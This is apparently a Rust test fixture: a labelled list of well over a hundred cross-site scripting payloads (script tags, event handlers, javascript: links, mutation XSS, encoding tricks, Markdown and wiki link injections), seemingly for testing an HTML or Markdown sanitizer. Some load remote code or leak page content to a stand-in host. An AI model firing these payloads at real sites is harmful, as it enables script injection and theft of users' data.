//! Payloads of cross-site scripting, one or more for each kind that public collections list (the
//! OWASP and PortSwigger cheat sheets, papers on mutation XSS); the strings are our own.
//!
//! None holds a line end or a `/` that a file's name could not have, unless its kind asks for it.

/// The kind, and the text.
pub const PAYLOADS: &[(&str, &str)] = &[
    ("script element", "<script>boom()</script>"),
    (
        "script from elsewhere",
        "<script src=//x.example/b.js></script>",
    ),
    ("script, mixed case", "<ScRiPt>boom()</sCrIpT>"),
    (
        "script, blank before the bracket",
        "<script >boom()</script >",
    ),
    (
        "script, attribute-like tail",
        "<script/boom>boom()</script/boom>",
    ),
    (
        "script in script",
        "<scr<script>ipt>boom()</scr</script>ipt>",
    ),
    ("script, unclosed", "<script>boom()//"),
    (
        "script of type module",
        "<script type=module>boom()</script>",
    ),
    (
        "data block closed early",
        "</script><script>boom()</script>",
    ),
    ("comment in a data block", "<!--<script>boom()"),
    ("title closed early", "</title><script>boom()</script>"),
    ("attribute closed early", "\"><script>boom()</script>"),
    (
        "attribute closed early, single",
        "'><script>boom()</script>",
    ),
    ("attribute added", "\" onmouseover=\"boom()\" x=\""),
    ("attribute added, single", "' onmouseover='boom()' x='"),
    ("attribute added, backtick", "` onmouseover=`boom()` x=`"),
    ("event attribute, image", "<img src=x onerror=boom()>"),
    (
        "event attribute, slashes for blanks",
        "<img/src=x/onerror=boom()>",
    ),
    (
        "event attribute, image word",
        "<image src=x onerror=boom()>",
    ),
    ("event attribute, body", "<body onload=boom()>"),
    (
        "event attribute, details",
        "<details open ontoggle=boom()>x</details>",
    ),
    (
        "event attribute, video",
        "<video><source onerror=boom()></video>",
    ),
    ("event attribute, audio", "<audio src onloadstart=boom()>"),
    (
        "event attribute, marquee",
        "<marquee onstart=boom()>x</marquee>",
    ),
    ("event attribute, focus", "<input autofocus onfocus=boom()>"),
    (
        "event attribute, any element",
        "<x onclick=boom() contenteditable>x</x>",
    ),
    (
        "event attribute, form feed before it",
        "<img src=x\u{c}onerror=boom()>",
    ),
    (
        "event attribute, no closing bracket",
        "<img src=x onerror=boom() ",
    ),
    (
        "event attribute, animation",
        "<p onanimationstart=boom() style=animation-name:x>x</p>",
    ),
    ("javascript address", "<a href=javascript:boom()>x</a>"),
    (
        "javascript address, case",
        "<a href=\"JaVaScRiPt:boom()\">x</a>",
    ),
    (
        "javascript address, tab",
        "<a href=\"java\tscript:boom()\">x</a>",
    ),
    (
        "javascript address, entity of a tab",
        "<a href=\"java&Tab;script:boom()\">x</a>",
    ),
    (
        "javascript address, entity of a line end",
        "<a href=\"java&NewLine;script:boom()\">x</a>",
    ),
    (
        "javascript address, entity of the colon",
        "<a href=\"javascript&colon;boom()\">x</a>",
    ),
    (
        "javascript address, numbers",
        "<a href=\"&#106;&#x61;vascript&#0000058;boom()\">x</a>",
    ),
    (
        "javascript address, no semicolons",
        "<a href=\"&#106&#97&#118&#97script:boom()\">x</a>",
    ),
    (
        "javascript address, control before it",
        "<a href=\"\u{1}javascript:boom()\">x</a>",
    ),
    (
        "javascript address, blank before it",
        "<a href=\" \u{a0}javascript:boom()\">x</a>",
    ),
    ("vbscript address", "<a href=\"vbscript:boom\">x</a>"),
    (
        "data address",
        "<a href=\"data:text/html,<script>boom()</script>\">x</a>",
    ),
    (
        "data address, base64",
        "<a href=\"data:text/html;base64,PHNjcmlwdD5ib29tKCk8L3NjcmlwdD4=\">x</a>",
    ),
    (
        "javascript behind a web address",
        "javascript://x.example/%0aboom()",
    ),
    ("bare address", "javascript:boom()"),
    (
        "bare address, look-alike letters",
        "ｊａｖａｓｃｒｉｐｔ:boom()",
    ),
    (
        "ping",
        "<a href=\"https://x.example\" ping=\"https://y.example\">x</a>",
    ),
    (
        "target and opener",
        "<a href=\"https://x.example\" target=_blank rel=opener>x</a>",
    ),
    ("svg with load", "<svg onload=boom()>"),
    ("svg with script", "<svg><script>boom()</script></svg>"),
    (
        "svg, link",
        "<svg><a xlink:href=\"javascript:boom()\"><text y=20>x</text></a></svg>",
    ),
    (
        "svg, animated link",
        "<svg><a><animate attributeName=href values=javascript:boom() /><text y=20>x</text></a></svg>",
    ),
    (
        "svg, set",
        "<svg><set attributeName=onmouseover to=boom()></svg>",
    ),
    (
        "svg, use",
        "<svg><use href=\"data:image/svg+xml,<svg id=x onload=boom()>#x\"></use></svg>",
    ),
    (
        "svg, foreignObject",
        "<svg><foreignObject><img src=x onerror=boom()></foreignObject></svg>",
    ),
    (
        "svg, style with markup",
        "<svg><style><img src=x onerror=boom()></style></svg>",
    ),
    (
        "svg, title with markup",
        "<svg><title><img src=x onerror=boom()></title></svg>",
    ),
    (
        "math, link",
        "<math><mi xlink:href=\"javascript:boom()\">x</mi></math>",
    ),
    (
        "math, maction",
        "<math><maction actiontype=statusline xlink:href=javascript:boom()>x</maction></math>",
    ),
    (
        "mutation, mglyph",
        "<math><mtext><table><mglyph><style><!--</style><img title=\"--&gt;&lt;img src=x onerror=boom()&gt;\">",
    ),
    (
        "mutation, form in form",
        "<form><math><mtext></form><form><mglyph><style></math><img src=x onerror=boom()>",
    ),
    (
        "mutation, noscript",
        "<noscript><p title=\"</noscript><img src=x onerror=boom()>\">",
    ),
    (
        "mutation, template",
        "<template><p title=\"</template><img src=x onerror=boom()>\">",
    ),
    (
        "mutation, textarea",
        "<textarea><p title=\"</textarea><img src=x onerror=boom()>\">",
    ),
    (
        "mutation, title",
        "<title><p title=\"</title><img src=x onerror=boom()>\">",
    ),
    (
        "mutation, select",
        "<select><style></select><img src=x onerror=boom()></style></select>",
    ),
    (
        "mutation, table",
        "<table><td><svg><desc><td></desc><img src=x onerror=boom()></svg>",
    ),
    (
        "mutation, comment end",
        "<!--><img src=x onerror=boom()>-->",
    ),
    (
        "mutation, odd comment",
        "<!--!><img src=x onerror=boom()>--!>",
    ),
    (
        "mutation, CDATA",
        "<svg><![CDATA[><img src=x onerror=boom()>]]></svg>",
    ),
    (
        "mutation, annotation-xml",
        "<math><annotation-xml encoding=\"text/html\"><style><img src=x onerror=boom()></style></annotation-xml></math>",
    ),
    ("plaintext", "<plaintext>"),
    ("xmp", "<xmp><img src=x onerror=boom()></xmp>"),
    (
        "listing",
        "<listing>&lt;img src=x onerror=boom()&gt;</listing>",
    ),
    ("iframe", "<iframe src=javascript:boom()></iframe>"),
    (
        "iframe with a document",
        "<iframe srcdoc=\"<script>boom()</script>\"></iframe>",
    ),
    ("object", "<object data=javascript:boom()></object>"),
    ("embed", "<embed src=javascript:boom()>"),
    ("applet", "<applet code=x></applet>"),
    ("base", "<base href=//x.example/>"),
    (
        "meta refresh",
        "<meta http-equiv=refresh content=\"0;url=javascript:boom()\">",
    ),
    (
        "link to a style",
        "<link rel=stylesheet href=//x.example/b.css>",
    ),
    (
        "link that prefetches",
        "<link rel=prerender href=//x.example>",
    ),
    (
        "form",
        "<form action=javascript:boom()><button>x</button></form>",
    ),
    (
        "form elsewhere",
        "<form id=f action=//x.example></form><button form=f formaction=javascript:boom()>x</button>",
    ),
    ("isindex", "<isindex type=image src=x onerror=boom()>"),
    ("keygen", "<keygen autofocus onfocus=boom()>"),
    (
        "style element",
        "<style>@import '//x.example/b.css';</style>",
    ),
    (
        "style attribute",
        "<p style=\"background:url(//x.example/b)\">x</p>",
    ),
    (
        "style attribute over the page",
        "<p style=\"position:fixed;inset:0\">x</p>",
    ),
    ("srcset", "<img srcset=\"//x.example/b 1x\" onerror=boom()>"),
    (
        "picture",
        "<picture><source srcset=//x.example/b onerror=boom()><img></picture>",
    ),
    (
        "background",
        "<table background=javascript:boom()><td>x</table>",
    ),
    (
        "clobbering",
        "<a id=site-title name=cookie>x</a><form name=body><input name=attributes></form>",
    ),
    ("dangling markup", "<img src='//x.example/?"),
    ("dangling anchor", "<a href=\"//x.example/?"),
    (
        "portal and fenced frame",
        "<portal src=//x.example></portal><fencedframe></fencedframe>",
    ),
    ("custom element", "<x-y is=z onconnected=boom()>x</x-y>"),
    (
        "declarative shadow root",
        "<div><template shadowrootmode=open><script>boom()</script></template></div>",
    ),
    (
        "popover",
        "<button popovertarget=p>x</button><p id=p popover onbeforetoggle=boom()>x</p>",
    ),
    (
        "processing instruction",
        "<?xml-stylesheet href=\"javascript:boom()\"?>",
    ),
    ("document type", "<!DOCTYPE html [<!ENTITY x \"boom\">]>"),
    ("CDATA end", "]]><script>boom()</script>"),
    ("null in the name", "<scr\u{0}ipt>boom()</scr\u{0}ipt>"),
    (
        "null before the attribute",
        "<img src=x \u{0}onerror=boom()>",
    ),
    ("look-alike brackets", "＜script＞boom()＜/script＞"),
    ("modifier letters", "ʺ›‹script›boom()"),
    (
        "entities of brackets",
        "&lt;script&gt;boom()&lt;/script&gt;",
    ),
    ("entities twice", "&amp;lt;img src=x onerror=boom()&amp;gt;"),
    (
        "escapes of scripts",
        "\\u003cscript\\u003eboom()\\x3c/script\\x3e",
    ),
    ("percent escapes", "%3Cscript%3Eboom()%3C/script%3E"),
    ("UTF-7", "+ADw-script+AD4-boom()+ADw-/script+AD4-"),
    ("direction override", "\u{202e}>tpircs<boom()\u{202c}"),
    ("line separators", "x\u{2028}boom()\u{2029}y"),
    (
        "expression of a template",
        "{{ 7 * 7 }}{% raw %}${boom()}#{boom()}<%= boom() %>",
    ),
    (
        "component of a template",
        "{{ <entity entity={entity} /> }}",
    ),
    ("Markdown link", "[x](javascript:boom())"),
    ("Markdown link, tab in it", "[x](<java\tscript:boom()>)"),
    (
        "Markdown link, entity in it",
        "[x](javascript&colon;boom())",
    ),
    (
        "Markdown link, data",
        "[x](data:text/html,<script>boom()</script>)",
    ),
    (
        "Markdown link, title",
        "[x](https://x.example '\" onclick=\"boom()')",
    ),
    ("Markdown link, scheme of the page", "[x](//x.example/boom)"),
    (
        "Markdown link, backslashes",
        "[x](\\\\\\\\x.example\\\\boom)",
    ),
    (
        "Markdown link, brackets",
        "[x](<https://x.example/\"onclick=\"boom()>)",
    ),
    ("Markdown autolink", "<javascript:boom()>"),
    (
        "Markdown autolink, quote",
        "<https://x.example/\"onclick=\"boom()>",
    ),
    ("Markdown mail link", "<boom@x.example\"onclick=boom()>"),
    ("Markdown image", "![x](javascript:boom())"),
    (
        "Markdown image, alternative text",
        "![\" onerror=\"boom()](x.png)",
    ),
    ("Markdown reference", "[x][boom]"),
    ("Markdown footnote", "[^\"><script>boom()]"),
    ("Markdown code", "`<script>boom()</script>`"),
    ("wiki link", "[[\" onclick=\"boom()]]"),
    ("wiki link, text", "[[first|<script>boom()</script>]]"),
    ("wiki link, scheme", "[[javascript:boom()]]"),
    ("citation", "[@own\" onclick=\"boom()]"),
];
